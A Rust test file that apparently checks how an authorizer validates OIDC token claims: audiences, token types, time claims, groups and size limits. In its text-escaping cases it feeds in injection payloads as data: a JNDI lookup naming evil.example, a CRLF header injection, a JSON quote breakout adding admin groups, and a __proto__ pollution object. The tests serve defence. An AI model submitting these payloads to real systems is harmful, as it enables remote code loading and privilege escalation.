//! Classes 7, 8 and 10 for an issuer of kind `oidc`: claims that are missing, odd or another party's, in
//! every kind of event, and how they appear in the context. Classes 3 and 4 for this issuer are those of the
//! own pool, with this issuer's key.

use authorizer::{DenyReason, TokenError};
use serde_json::{Value, json};
use testkit::authorizer_event::{connect_event, event};
use testkit::idp::{self, AUDIENCE};
use testkit::issuer::{SigningKey, with};

use super::fixture::{NOW, claims_with, idp_claims, signed, without};
use super::table::Expected::{self, Allow, Deny};
use super::table::{Case, Class, bad};

const NO_RULE: Expected = Deny(DenyReason::NoRule);

pub(super) fn cases() -> Vec<Case> {
    [
        audiences(),
        clients(),
        uses(),
        bound(),
        types(),
        missing(),
        times(),
        groups(),
        texts(),
        handed_on(),
        sizes(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn key() -> &'static SigningKey {
    idp::key("EdDSA")
}

fn case(class: Class, name: &str, claims: &Value, expected: Expected, why: &'static str) -> Case {
    class.case(format!("oidc: {name}"), event(&key().token(claims)), expected, why)
}

fn claim(name: &str, claims: &Value, expected: Expected, why: &'static str) -> Case {
    case(Class::Claims, name, claims, expected, why)
}

fn with_claim(name: &str, value: Value) -> Value {
    with(idp_claims(), name, value)
}

fn audiences() -> Vec<Case> {
    let why = "one of the entry's audiences is in `aud`, letter for letter (RFC 7519 section 4.1.3, RFC 8725 section 3.9)";
    let other = bad(TokenError::Audience);
    let mut cases: Vec<Case> = [
        ("a text", json!(AUDIENCE), Allow),
        ("the second audience", json!("orders"), Allow),
        ("a list of one", json!([AUDIENCE]), Allow),
        ("a list with others", json!(["https://a.example", "orders"]), Allow),
        ("an empty list", json!([]), other),
        ("another", json!("https://other.example.com"), other),
        ("a list of others", json!(["https://a.example", "https://b.example"]), other),
        ("with a slash", json!(format!("{AUDIENCE}/")), other),
        ("in capitals", json!(AUDIENCE.to_uppercase()), other),
        ("its first letters", json!(&AUDIENCE[..AUDIENCE.len() - 1]), other),
        ("with more letters", json!(format!("{AUDIENCE}2")), other),
        ("in a longer text", json!(format!("x {AUDIENCE} y")), other),
        ("two in one text", json!(format!("{AUDIENCE},orders")), other),
        ("two with a space", json!(format!("{AUDIENCE} orders")), other),
        ("a star", json!("*"), other),
        ("a list in a text", json!(format!("[\"{AUDIENCE}\"]")), other),
        ("the client", json!("web"), other),
        ("null", json!(null), other),
    ]
    .into_iter()
    .map(|(name, aud, expected)| claim(&format!("aud: {name}"), &with_claim("aud", aud), expected, why))
    .collect();
    cases.push(claim("no aud", &without(idp_claims(), "aud"), other, why));
    cases.push(claim(
        "aud under the name AUD",
        &with(without(idp_claims(), "aud"), "AUD", json!(AUDIENCE)),
        other,
        why,
    ));
    cases
}

/// The entry names no client, so every client of the issuer is accepted. Rules can name some of them.
fn clients() -> Vec<Case> {
    let why = "the entry leaves the clients to the issuer; what names one is a text all the same";
    let wrong = bad(TokenError::Claim("client"));
    [
        ("no client", without(idp_claims(), "azp"), Allow),
        ("a client", with_claim("azp", json!("anyone")), Allow),
        ("client_id before azp", with_claim("client_id", json!("other")), Allow),
        ("a client that is a number", with_claim("azp", json!(5)), wrong),
        ("a client that is a list", with_claim("client_id", json!(["web"])), wrong),
        ("an empty client", with_claim("azp", json!("")), wrong),
        ("a client with a line end", with_claim("azp", json!("web\n")), wrong),
        ("a client of 513 bytes", with_claim("azp", json!("a".repeat(513))), wrong),
    ]
    .into_iter()
    .map(|(name, claims, expected)| claim(name, &claims, expected, why))
    .collect()
}

fn uses() -> Vec<Case> {
    let why = "an ID token is no key to an API (RFC 8725 sections 2.8 and 3.12, RFC 9068 section 5)";
    let id = bad(TokenError::TokenUse);
    let bare = || without(idp_claims(), "scope");
    let mut cases: Vec<Case> = [
        ("scope", with(bare(), "scope", json!("a")), Allow),
        ("scp", with(bare(), "scp", json!(["a"])), Allow),
        ("client_id", with(bare(), "client_id", json!("web")), Allow),
        ("cid", with(bare(), "cid", json!("web")), Allow),
        ("typ Bearer", with(bare(), "typ", json!("Bearer")), Allow),
        ("typ bearer", with(bare(), "typ", json!("bearer")), Allow),
        ("azp alone", bare(), id),
        ("a scope that is null", with(bare(), "scope", json!(null)), id),
        ("nonce", with_claim("nonce", json!("n")), id),
        ("at_hash", with_claim("at_hash", json!("h")), id),
        ("c_hash", with_claim("c_hash", json!("h")), id),
        ("s_hash", with_claim("s_hash", json!("h")), id),
        ("an empty nonce", with_claim("nonce", json!("")), id),
        ("a nonce that is a number", with_claim("nonce", json!(0)), id),
        ("typ ID", with_claim("typ", json!("ID")), id),
        ("typ Refresh", with_claim("typ", json!("Refresh")), id),
        ("typ Logout", with_claim("typ", json!("Logout")), id),
        ("typ JWT", with_claim("typ", json!("JWT")), id),
        ("typ of no kind", with_claim("typ", json!(["Bearer"])), id),
        ("typ with a space", with_claim("typ", json!("Bearer ")), id),
        ("typ Bearer and a nonce", with(with_claim("typ", json!("Bearer")), "nonce", json!("n")), Allow),
        (
            "typ Bearer, a nonce and at_hash",
            with(with(with_claim("typ", json!("Bearer")), "nonce", json!("n")), "at_hash", json!("h")),
            id,
        ),
        ("typ ID and a nonce", with(with_claim("typ", json!("ID")), "nonce", json!("n")), id),
    ]
    .into_iter()
    .map(|(name, claims, expected)| claim(&format!("sign: {name}"), &claims, expected, why))
    .collect();
    for (typ, claims, expected) in [
        ("at+jwt", bare(), Allow),
        ("application/at+jwt", bare(), Allow),
        ("AT+JWT", bare(), Allow),
        ("JWT", bare(), id),
        ("at+jwt", with(bare(), "nonce", json!("n")), id),
        ("at+jwt", with(bare(), "typ", json!("ID")), id),
        ("id_token+jwt", idp_claims(), bad(TokenError::ForbiddenHeader("typ"))),
        ("logout+jwt", idp_claims(), bad(TokenError::ForbiddenHeader("typ"))),
        ("secevent+jwt", idp_claims(), bad(TokenError::ForbiddenHeader("typ"))),
    ] {
        let token = key().token_with(&with(key().header(), "typ", json!(typ)), &claims);
        let more = ["nonce", "typ"].into_iter().find(|name| claims.get(*name).is_some());
        let more = more.map(|name| format!(" with {name} of an ID token")).unwrap_or_default();
        cases.push(Class::Claims.case(format!("oidc: header typ {typ}{more}"), event(&token), expected, why));
    }
    cases
}

fn bound() -> Vec<Case> {
    let why = "a token that is bound to a key is no bearer token (RFC 7800, RFC 8705, RFC 9449)";
    [
        json!({ "jkt": "a" }),
        json!({ "x5t#S256": "a" }),
        json!({ "jwk": key().jwk() }),
        json!({}),
        json!(null),
        json!("a"),
    ]
    .into_iter()
    .map(|cnf| {
        let name = format!("cnf {}", cnf.to_string().chars().take(12).collect::<String>());
        claim(&name, &with_claim("cnf", cnf), bad(TokenError::Claim("cnf")), why)
    })
    .collect()
}

fn types() -> Vec<Case> {
    let why = "a claim that is read has its own type, and no other is bent to it (RFC 7519 section 4)";
    let exp = *NOW + 3_540;
    let mut cases = Vec::new();
    let mut wrong = |claim_name: &str, error: &'static str, values: Vec<Value>| {
        for value in values {
            let text: String = value.to_string().chars().take(40).collect();
            let expected = bad(TokenError::Claim(error));
            cases.push(claim(
                &format!("{claim_name}: {text}"),
                &with_claim(claim_name, value),
                expected,
                why,
            ));
        }
    };
    wrong("sub", "sub", vec![json!(5), json!(true), json!(["a"]), json!({}), json!("")]);
    wrong("jti", "jti", vec![json!(5), json!(["a"]), json!("")]);
    wrong(
        "aud",
        "aud",
        vec![json!(5), json!({}), json!(""), json!([5]), json!([""]), json!([[AUDIENCE]]), json!([null])],
    );
    wrong(
        "exp",
        "exp",
        vec![
            json!(null),
            json!(exp.to_string()),
            json!(-1),
            json!(-0.5),
            json!([exp]),
            json!(true),
            json!({}),
        ],
    );
    wrong(
        "exp",
        "exp",
        vec![json!(1e18), json!(u64::MAX), json!(exp * 1_000), json!(i64::MIN), json!(1e308)],
    );
    wrong("iat", "iat", vec![json!(null), json!((*NOW - 60).to_string()), json!(-1)]);
    wrong("nbf", "nbf", vec![json!(null), json!("0"), json!(-1), json!(-0.1), json!({})]);
    wrong(
        "scope",
        "scopes",
        vec![
            json!(5),
            json!({}),
            json!([5]),
            json!([["a"]]),
            json!("a  b"),
            json!(" a"),
            json!("a\tb"),
            json!("a\nb"),
        ],
    );
    wrong(
        "realm_access",
        "groups",
        vec![
            json!({ "roles": 5 }),
            json!({ "roles": {} }),
            json!({ "roles": [5] }),
            json!({ "roles": true }),
        ],
    );
    cases
}

fn missing() -> Vec<Case> {
    let why = "what is required must be there, or it would go unchecked";
    let mut cases: Vec<Case> = ["sub", "exp", "iat"]
        .into_iter()
        .map(|name| {
            claim(
                &format!("no {name}"),
                &without(idp_claims(), name),
                bad(TokenError::MissingClaim(name)),
                why,
            )
        })
        .collect();
    cases.push(claim("sub null", &with_claim("sub", json!(null)), bad(TokenError::MissingClaim("sub")), why));
    // A token without an issuer is read as a pool's, and the reason then says more.
    cases.push(claim("no iss", &without(idp_claims(), "iss"), bad(TokenError::MissingClaim("iss")), why));
    for name in ["jti", "auth_time"] {
        cases.push(claim(
            &format!("no {name}"),
            &without(idp_claims(), name),
            Allow,
            "no issuer has to say it",
        ));
    }
    cases
}

fn times() -> Vec<Case> {
    let now = *NOW;
    let parts = |seconds: u64, more: f64| json!(f64::from(u32::try_from(seconds).unwrap()) + more);
    let whole = "parts of a second never lengthen a token's life (RFC 7519 section 2)";
    let why = "`exp`, `nbf` and `iat` (RFC 7519 sections 4.1.4 to 4.1.6)";
    [
        ("exp of this moment", "exp", json!(now), bad(TokenError::Expired), why),
        (
            "exp of this moment and a part of a second",
            "exp",
            parts(now, 0.9),
            bad(TokenError::Expired),
            whole,
        ),
        ("exp in parts of seconds", "exp", parts(now + 3_000, 0.5), Allow, whole),
        ("exp 0", "exp", json!(0), bad(TokenError::Expired), why),
        ("nbf in an hour", "nbf", json!(now + 3_600), bad(TokenError::NotYetValid), why),
        (
            "nbf in an hour and a part of a second",
            "nbf",
            parts(now + 3_600, 0.1),
            bad(TokenError::NotYetValid),
            whole,
        ),
        ("nbf of this moment", "nbf", json!(now), Allow, why),
        ("iat in an hour", "iat", json!(now + 3_600), bad(TokenError::IssuedInFuture), why),
        ("iat in parts of seconds", "iat", parts(now - 60, 0.5), Allow, whole),
    ]
    .into_iter()
    .map(|(name, member, value, expected, why)| claim(name, &with_claim(member, value), expected, why))
    .collect()
}

fn groups() -> Vec<Case> {
    let why = "groups are those at the entry's place: whole names, byte by byte";
    let roles = |roles: Value| with_claim("realm_access", json!({ "roles": roles }));
    [
        ("a list", roles(json!(["guests", "staff"])), Allow),
        ("one text", roles(json!("staff")), Allow),
        ("one text of two words", roles(json!("staff admins")), NO_RULE),
        ("one text with commas", roles(json!("staff,admins")), NO_RULE),
        ("a list with null", roles(json!([null, "", "staff"])), Allow),
        ("null", roles(json!(null)), NO_RULE),
        ("in capitals", roles(json!(["STAFF"])), NO_RULE),
        ("with white space", roles(json!(["staff ", "st aff"])), NO_RULE),
        ("encoded", roles(json!(["%73taff"])), NO_RULE),
        (
            "with the place's own name",
            with(without(idp_claims(), "realm_access"), "realm_access.roles", json!(["staff"])),
            NO_RULE,
        ),
        ("an object above that is a text", with_claim("realm_access", json!("roles")), NO_RULE),
        (
            "an object above that is a list",
            with_claim("realm_access", json!([{ "roles": ["staff"] }])),
            NO_RULE,
        ),
        ("one object too deep", with_claim("realm_access", json!({ "x": { "roles": ["staff"] } })), NO_RULE),
        ("nowhere", without(idp_claims(), "realm_access"), NO_RULE),
    ]
    .into_iter()
    .map(|(name, claims, expected)| claim(&format!("groups: {name}"), &claims, expected, why))
    .collect()
}

/// Class 10: what a name may contain, and what would end a line or count as several names.
fn texts() -> Vec<Case> {
    let encoded = "white space and control characters in a name are told percent-encoded";
    let no_name = "a control character could end a line of a log";
    let plain = "it is a text like any other, and JSON can write it";
    let mut cases = Vec::new();
    for (name, text, is_control) in [
        ("CR and LF", "ann\r\nX-Groups: admins", true),
        ("NUL", "ann\0", true),
        ("ESC", "\u{1b}[2Jann", true),
        ("NEL", "ann\u{85}", true),
        ("quotes", "\"},\"groups\":\"admins\",\"x\":{\"", false),
        ("backslashes", "\\\\\\\" \\u0000", false),
        ("a lookup", "${jndi:ldap://evil.example/a}", false),
        ("letters from right to left", "\u{202e}nimda", false),
        ("a line separator", "a\u{2028}b", false),
        ("__proto__", "__proto__", false),
    ] {
        let member = |claim_name: &str, error: &'static str| {
            let expected = if is_control { bad(TokenError::Claim(error)) } else { Allow };
            let why = if is_control { no_name } else { plain };
            let claims = with_claim(claim_name, json!(text));
            case(Class::Context, &format!("{name} in {claim_name}"), &claims, expected, why)
        };
        cases.extend([member("sub", "sub"), member("jti", "jti"), member("azp", "client")]);
        let roles = with_claim("realm_access", json!({ "roles": ["staff", text] }));
        cases.push(case(Class::Context, &format!("{name} in a group"), &roles, Allow, encoded));
        let scopes = with_claim("scope", json!(["a", text]));
        cases.push(case(Class::Context, &format!("{name} in a list of scopes"), &scopes, Allow, encoded));
    }
    cases
}

/// Class 10: claims that are handed on arrive unchanged, in one JSON text.
fn handed_on() -> Vec<Case> {
    let why = "a claim that is handed on is JSON inside a text: nothing in it can leave the text";
    let mut cases = Vec::new();
    for (name, value) in [
        ("a text", json!("ann@example.com")),
        ("null", json!(null)),
        ("an object", json!({ "__proto__": { "admin": true }, "a": [1, 1.5, false] })),
        ("quotes", json!("\"},\"groups\":\"admins\",\"x\":{\"")),
        ("line ends", json!("a\r\nX-Groups: admins\n")),
        ("control characters", json!("\u{0}\u{1b}[2J\u{7f}")),
        ("a number beyond doubles", json!(u64::MAX)),
        ("a list of 500 texts", json!(vec!["a"; 500])),
    ] {
        for member in ["email", "nested"] {
            let value = if member == "nested" { json!({ "deep": value }) } else { value.clone() };
            let name = format!("{name} handed on as {member}");
            cases.push(case(Class::Context, &name, &with_claim(member, value.clone()), Allow, why));
            cases.push(Class::Context.case(name, signed(&claims_with(member, value)), Allow, why));
        }
    }
    cases
}

/// Class 10: an identity that is too large is denied under that name, and never cut.
fn sizes() -> Vec<Case> {
    let fits = "it fits, so it is told whole";
    let cut = "what does not fit is denied: less than that would not be what the token says";
    let at_connect = |name: &str, claims: &Value, expected, why| {
        let name = format!("oidc: {name}, at a WebSocket API");
        Class::Context.case(name, connect_event(&key().token(claims)), expected, why)
    };
    let roles = |roles: Vec<String>| with_claim("realm_access", json!({ "roles": roles }));
    let many =
        |count: usize| (0..count).map(|n| format!("{n:08x}")).chain(["staff".to_owned()]).collect::<Vec<_>>();
    let spaces = |count: usize| vec!["staff".to_owned(), " ".repeat(count)];
    // One escape for JSON, and a second one because the claims are a JSON text inside a string.
    let email = |count: usize| with_claim("email", json!("\"".repeat(count)));
    let plan = |count: usize| with_claim("custom:plan", json!("a".repeat(count)));
    let both = with(roles(spaces(2_300)), "email", json!("a".repeat(1_000)));
    vec![
        case(Class::Context, "600 groups", &roles(many(600)), Allow, fits),
        at_connect("600 groups", &roles(many(600)), Allow, fits),
        case(Class::Context, "a group of 5,000 spaces", &roles(spaces(5_000)), Allow, fits),
        at_connect("a group of 2,600 spaces", &roles(spaces(2_600)), Deny(DenyReason::IdentityTooLarge), cut),
        case(Class::Context, "6,000 bytes handed on", &plan(6_000), Allow, fits),
        at_connect("6,000 bytes handed on", &plan(6_000), Allow, fits),
        at_connect("7,300 bytes handed on", &plan(6_500), Allow, fits),
        case(Class::Context, "2,500 quotes handed on", &email(2_500), Allow, fits),
        at_connect("2,500 quotes handed on", &email(2_500), Deny(DenyReason::ClaimsTooLarge), cut),
        at_connect("claims beside groups that would fit", &both, Deny(DenyReason::ClaimsTooLarge), cut),
        at_connect(
            "a claim of 6,000 bytes that nobody hands on",
            &with_claim("custom:x", json!("a".repeat(6_000))),
            Allow,
            "it gets no further",
        ),
    ]
}
